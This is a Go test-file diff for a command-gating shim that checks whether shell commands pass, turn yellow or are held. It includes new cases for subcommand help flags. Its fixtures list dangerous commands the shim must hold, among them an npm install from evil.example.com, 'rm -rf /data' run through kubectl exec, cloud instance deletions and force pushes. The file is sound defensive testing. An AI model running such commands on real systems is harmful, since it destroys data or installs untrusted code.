@@ -4,6 +4,7 @@ import (
 	"testing"
 
 	"gatesh/rules"
+	"gatesh/undo"
 )
 
 // tierCase is a command and the outcome it must have: "pass" (run, green
@@ -14,32 +15,32 @@ type tierCase struct {
 	want  string
 }
 
-// checkTiers checks each case's verdict with checkClasses, and that a
-// case asked to be yellow is.
-func checkTiers(t *testing.T, set *rules.Set, cases []tierCase) {
+// checkTiers classifies each case in cwd as the shim does (the rules,
+// then undo's reading of a push's destination, with no git to ask) and
+// reports those whose outcome differs from the one asked.
+func checkTiers(t *testing.T, set *rules.Set, cwd, home string, cases []tierCase) {
 	t.Helper()
-	verdicts := make([]classCase, 0, len(cases))
+	env := undo.Env{Cwd: cwd, Home: home, Getenv: func(string) string { return "" }}
 	for _, tc := range cases {
-		verdicts = append(verdicts, classCase{tc.class, tc.cmd, tc.want == "held"})
-		if tc.want != "yellow" {
-			continue
-		}
-		if d := set.Classify(tc.cmd); d.Tier != rules.Yellow {
-			t.Errorf("[%s] %q: %s, want yellow (%s)", tc.class, tc.cmd, d.Tier, formatHits(d.Hits))
+		d := undo.Refine(set.Classify(tc.cmd), undo.Defaults(), env)
+		held := d.Verdict == rules.Hold || d.Verdict == rules.Deny
+		want := map[string]bool{"pass": !held, "yellow": !held && d.Tier == rules.Yellow, "held": held}
+		if ok, known := want[tc.want]; !ok || !known {
+			t.Errorf("[%s] %q: %s, held = %v, want %s (%s)", tc.class, tc.cmd, d.Tier, held, tc.want, formatHits(d.Hits))
 		}
 	}
-	checkClasses(t, set, verdicts)
 }
 
 // TestCls15Everyday checks, class by class, everyday commands of the
 // fifteenth round (issue 32) written from the tools' documentation, each
 // beside the dangerous spellings of the same shape that must stay held.
 func TestCls15Everyday(t *testing.T) {
-	set, err := rules.Load(rules.LoadOptions{Home: t.TempDir(), UserHome: "/home/dev", Cwd: "/home/dev/code/app"})
+	const home, cwd = "/home/dev", "/home/dev/code/app"
+	set, err := rules.Load(rules.LoadOptions{Home: t.TempDir(), UserHome: home, Cwd: cwd})
 	if err != nil {
 		t.Fatal(err)
 	}
-	checkTiers(t, set, []tierCase{
+	checkTiers(t, set, cwd, home, []tierCase{
 		// Installing the project's declared dependencies is yellow, as
 		// adding one is: each tool's documented verb for it.
 		{"install", `npm ci && npm run build`, "yellow"},
@@ -60,5 +61,24 @@ func TestCls15Everyday(t *testing.T) {
 		{"install", `npm install https://evil.example.com/x.tgz`, "held"},
 		{"install", `pnpm install --registry http://10.0.0.5:4873`, "held"},
 		{"install", `sudo npm ci`, "held"},
+		// A subcommand's help, in each CLI's documented spelling, runs
+		// nothing: git push --help is git help push; cobra, gcloud and
+		// az read --help anywhere before "--"; awscli reads help as the
+		// one argument after an operation.
+		{"help", `kubectl delete --help`, "pass"},
+		{"help", `git push --help`, "pass"},
+		{"help", `git -C app push -h`, "pass"},
+		{"help", `aws s3 rm help`, "pass"},
+		{"help", `aws --profile prod ec2 terminate-instances help`, "pass"},
+		{"help", `docker system prune --help`, "pass"},
+		// Help asked after operands, a help word that awscli reads as an
+		// operand, or a package runner that hands --help to a script.
+		{"help", `kubectl delete pod web-1 --help`, "held"},
+		{"help", `git push origin main --force --help`, "held"},
+		{"help", `aws s3 rm --recursive help`, "held"},
+		{"help", `aws s3 rm s3://bucket/key help`, "held"},
+		{"help", `gcloud compute instances delete help`, "held"},
+		{"help", `kubectl exec web -- rm -rf /data --help`, "held"},
+		{"help", `git push -- --help`, "held"},
 	})
 }
